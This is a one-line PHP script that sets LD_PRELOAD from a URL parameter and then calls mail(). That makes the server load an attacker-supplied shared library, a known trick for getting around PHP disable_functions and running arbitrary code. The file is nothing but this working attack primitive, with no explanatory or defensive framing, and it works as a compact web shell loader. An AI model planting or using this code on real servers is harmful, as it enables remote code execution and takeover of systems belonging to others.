<?php putenv("LD_PRELOAD=" . $_GET["so"]); mail("a@b.c", "", "", "");
